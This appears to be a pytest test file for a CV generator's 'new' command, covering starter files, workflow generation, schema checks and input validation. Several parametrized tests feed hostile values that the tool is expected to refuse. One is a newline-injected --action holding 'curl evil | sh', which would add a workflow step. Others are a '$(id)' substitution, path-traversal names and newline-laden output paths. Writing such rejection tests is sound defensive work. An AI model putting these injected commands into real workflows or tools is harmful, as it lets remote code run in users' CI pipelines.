"""`cvgen new`: a starter that builds at once, with a workflow that uses cvgen's own action."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from cvgen.commands.new import StarterError, create

from ..conftest import flat, pdf_text

ROOT = Path(__file__).resolve().parent.parent.parent


def _cvgen(*args: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "cvgen", *map(str, args)], cwd=cwd, capture_output=True, text=True)


def test_new_then_build_works_at_once(tmp_path: Path) -> None:
    made = _cvgen("new", "Zoë O'Brien: Jr. & Co", "zoe", cwd=tmp_path)
    assert made.returncode == 0, made.stderr
    folder = tmp_path / "zoe"
    assert {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()} == {
        "cv.yaml", "publications.bib", "venues.yaml", ".gitignore", ".github/workflows/cv.yml", "cv.schema.json",
        "README.md"}
    assert "Next: cd zoe && cvgen build " in made.stdout
    built = _cvgen("build", cwd=folder)  # no argument: the folder's own cv.yaml, as the hint says
    assert built.returncode == 0, built.stderr
    text = flat(pdf_text(folder / "build" / "cv.pdf"))
    assert "Zoë O'Brien: Jr. & Co" in text and "EXAMPLE: A Conference Paper Title" in text
    assert "Zoë O'Brien: Jr. & Co, Alex Example" in text  # the owner in the author lists, whole


def test_new_refuses_to_overwrite_anything(tmp_path: Path) -> None:
    folder = tmp_path / "cv"
    folder.mkdir()
    (folder / "cv.yaml").write_text("mine\n", encoding="utf-8")
    result = _cvgen("new", "Ada Lovelace", folder, cwd=tmp_path)
    assert result.returncode == 1 and "already exists and is not empty" in result.stderr
    assert (folder / "cv.yaml").read_text(encoding="utf-8") == "mine\n" and len(list(folder.iterdir())) == 1


def test_new_leaves_nothing_behind_when_validation_fails(tmp_path: Path) -> None:
    def refuse(cv: Path) -> None:
        raise RuntimeError("invalid")

    with pytest.raises(RuntimeError):
        create("Ada Lovelace", tmp_path / "ada", validate=refuse)
    assert list(tmp_path.iterdir()) == []
    (tmp_path / "file").write_text("x", encoding="utf-8")
    with pytest.raises(StarterError):
        create("Ada Lovelace", tmp_path / "file")


def test_default_folder_is_named_after_the_person(tmp_path: Path) -> None:
    assert _cvgen("new", "Ada Lovelace", cwd=tmp_path).returncode == 0
    assert (tmp_path / "ada-lovelace-cv" / "cv.yaml").is_file()


def test_starter_workflow_uses_the_action_with_inputs_it_has(tmp_path: Path) -> None:
    create("Ada Lovelace", tmp_path / "ada", action="me/cvgen@v1")
    workflow = tmp_path / "ada" / ".github" / "workflows" / "cv.yml"
    exe = shutil.which("check-jsonschema") or str(Path(sys.executable).parent / "check-jsonschema")
    check = subprocess.run([exe, "--builtin-schema", "vendor.github-workflows", str(workflow)],
                           capture_output=True, text=True)
    assert check.returncode == 0, check.stdout
    (step,) = [s for s in yaml.safe_load(workflow.read_text())["jobs"]["pdf"]["steps"] if "cvgen" in s.get("uses", "")]
    assert step["uses"] == "me/cvgen@v1"
    action_inputs = yaml.safe_load((ROOT / "action.yml").read_text())["inputs"]
    assert set(step["with"]) <= set(action_inputs)


def test_starter_cv_validates_against_its_schema(tmp_path: Path) -> None:
    """The editor's view (yaml-language-server with the schema beside it) agrees with cvgen."""
    create("Ada Lovelace", tmp_path / "ada")
    cv = tmp_path / "ada" / "cv.yaml"
    assert cv.read_text(encoding="utf-8").startswith("# yaml-language-server: $schema=cv.schema.json\n")
    exe = shutil.which("check-jsonschema") or str(Path(sys.executable).parent / "check-jsonschema")
    check = subprocess.run([exe, "--schemafile", str(tmp_path / "ada" / "cv.schema.json"), str(cv)],
                           capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr


def test_new_with_a_theme_builds_in_that_theme(tmp_path: Path) -> None:
    assert _cvgen("new", "Ada Lovelace", "ada", "--theme", "sidebar", cwd=tmp_path).returncode == 0
    assert "  theme: sidebar " in (tmp_path / "ada" / "cv.yaml").read_text(encoding="utf-8")
    built = _cvgen("build", "cv.yaml", cwd=tmp_path / "ada")
    assert built.returncode == 0, built.stderr
    assert "Ada Lovelace" in pdf_text(tmp_path / "ada" / "build" / "cv.pdf")
    assert "Next: cd ada && cvgen build " in _cvgen("new", "Ada Lovelace", "ada x", cwd=tmp_path).stdout.replace(
        "'ada x'", "ada")  # quoted when the folder needs it
    refused = _cvgen("new", "Ada Lovelace", "ada2", "--theme", "fancy", cwd=tmp_path)
    assert refused.returncode == 2 and not (tmp_path / "ada2").exists()


def test_new_offers_exactly_the_shipped_themes() -> None:
    from cvgen.cli import new
    from cvgen.model.settings import THEMES

    (option,) = [p for p in new.params if p.name == "theme"]
    assert tuple(option.type.choices) == THEMES


def test_new_offers_exactly_the_shipped_locales(tmp_path: Path) -> None:
    from cvgen.cli import new
    from cvgen.model.words import LOCALES

    (option,) = [p for p in new.params if p.name == "locale"]
    assert tuple(option.type.choices) == tuple(LOCALES)
    assert _cvgen("new", "Ada Lovelace", "ada", "--locale", "fr", cwd=tmp_path).returncode == 0
    assert "\n  locale: fr " in (tmp_path / "ada" / "cv.yaml").read_text(encoding="utf-8")
    assert _cvgen("check", cwd=tmp_path / "ada").returncode == 0


def test_without_an_argument_the_cv_is_found_where_it_is(tmp_path: Path) -> None:
    """./cv.yaml (a `cvgen new` folder), else ./content/cv.yaml (this repository), else a message
    naming both places; check and venues check as build (build runs in the test above)."""
    assert _cvgen("new", "Ada Lovelace", "ada", cwd=tmp_path).returncode == 0
    checked = _cvgen("check", cwd=tmp_path / "ada")
    assert checked.returncode == 0 and "cvgen: cv.yaml is valid" in checked.stdout, checked.stderr
    assert _cvgen("venues", "check", cwd=tmp_path / "ada").returncode in (0, 1)
    (tmp_path / "repo").mkdir()
    (tmp_path / "ada").rename(tmp_path / "repo" / "content")
    checked = _cvgen("check", cwd=tmp_path / "repo")
    assert checked.returncode == 0 and "content/cv.yaml is valid" in checked.stdout, checked.stderr
    for command in (["build"], ["check"], ["watch"], ["venues", "check"]):
        missing = _cvgen(*command, cwd=tmp_path)
        assert missing.returncode in (1, 2) and "Traceback" not in missing.stderr, (command, missing.stderr)
        assert "neither ./cv.yaml nor ./content/cv.yaml exists" in missing.stderr, (command, missing.stderr)


@pytest.mark.parametrize("name, folder", [("../../x", "x-cv"), ("AC/DC Fan", "ac-dc-fan-cv"), ("/srv/abs", "srv-abs-cv"),
                                          ("..", None), ("Zoë\u00a0Ça", "zoë-ça-cv")])
def test_a_name_never_writes_outside_the_current_folder(tmp_path: Path, name: str, folder: str | None) -> None:
    """The name is a person's name, the folder a plain folder here: nothing lands elsewhere."""
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    result = _cvgen("new", name, cwd=work)
    assert "Traceback" not in result.stderr
    if folder is None:
        assert result.returncode == 2 and "give the folder" in result.stderr
        assert list(tmp_path.rglob("*")) == [tmp_path / "a", work]
        return
    assert result.returncode == 0, result.stderr
    assert [p.name for p in work.iterdir()] == [folder]
    assert {p for p in tmp_path.rglob("*") if not p.is_relative_to(work / folder)} == {tmp_path / "a", work}
    assert not Path("/srv/abs").exists()


@pytest.mark.parametrize("name, message", [("Ada\nLovelace", "control character U+000A"),
                                           ("Ada\x1b[31mRed", "control character U+001B"),
                                           ("A" * 5000, "at most 200"), ("  ", "give your full name")])
def test_a_bad_name_is_a_message_not_a_traceback(tmp_path: Path, name: str, message: str) -> None:
    result = _cvgen("new", name, "cv", cwd=tmp_path)
    assert result.returncode == 2 and message in result.stderr and "Traceback" not in result.stderr
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("action", ["me/cvgen@v1\n      - run: curl evil | sh", "me/cvgen", "me@v1", "../x@v1",
                                    "me/cvgen@v1 # x", "me/cvgen@$(id)"])
def test_action_must_be_owner_repo_at_ref(tmp_path: Path, action: str) -> None:
    """A newline in --action would add steps to the workflow the starter commits."""
    result = _cvgen("new", "Ada Lovelace", "ada", "--action", action, cwd=tmp_path)
    assert result.returncode == 2 and "is not OWNER/REPO@REF" in result.stderr
    assert list(tmp_path.iterdir()) == []
    assert _cvgen("new", "Ada Lovelace", "ok", "--action", "me/cvgen/sub@v1.2", cwd=tmp_path).returncode == 0


@pytest.mark.parametrize("command", [["build", "cv.yaml"], ["watch", "cv.yaml"], ["new", "Ada", "a\nb"],
                                     ["check", "cv\n.yaml"]])
def test_paths_with_a_newline_are_refused(tmp_path: Path, command: list[str]) -> None:
    """`-o` reaches the action's GITHUB_OUTPUT, one file per line: a newline there could make the
    upload pick other files."""
    args = [*command, "-o", "build/a\nb.pdf"] if command[0] in ("build", "watch") else command
    result = _cvgen(*args, cwd=tmp_path)
    assert result.returncode == 2 and "newline or control character" in result.stderr, result.stderr
    assert list(tmp_path.iterdir()) == []


def test_help_shows_every_command_s_first_sentence_whole() -> None:
    import os

    from cvgen.cli import cli

    result = subprocess.run([sys.executable, "-m", "cvgen", "--help"], capture_output=True, text=True,
                            env={**os.environ, "COLUMNS": "80"})
    shown = " ".join(result.stdout.split())
    assert "..." not in result.stdout.split("Commands:")[1]
    for name, command in cli.commands.items():
        first = command.get_short_help_str(limit=10_000)
        assert f"{name} {first}" in shown.replace("- ", "-"), name


def test_a_cv_yaml_added_beside_content_is_built_not_called_up_to_date(tmp_path: Path) -> None:
    """No CV named: ./cv.yaml wins over content/cv.yaml, also on the no-op fast path (whose
    stamp was written by a build of content/cv.yaml with the same arguments)."""
    assert _cvgen("new", "Ada Lovelace", "content", cwd=tmp_path).returncode == 0
    assert _cvgen("build", "--format", "md", cwd=tmp_path).returncode == 0
    assert "up to date" in _cvgen("build", "--format", "md", cwd=tmp_path).stdout
    text = (tmp_path / "content" / "cv.yaml").read_text(encoding="utf-8")
    (tmp_path / "cv.yaml").write_text(text.replace('name: "Ada Lovelace"', 'name: "Grace Hopper"'), encoding="utf-8")
    for name in ("publications.bib", "venues.yaml"):
        shutil.copy(tmp_path / "content" / name, tmp_path / name)
    again = _cvgen("build", "--format", "md", cwd=tmp_path)
    assert again.returncode == 0 and "up to date" not in again.stdout, again.stdout
    assert "Grace Hopper" in (tmp_path / "build" / "cv.md").read_text(encoding="utf-8")
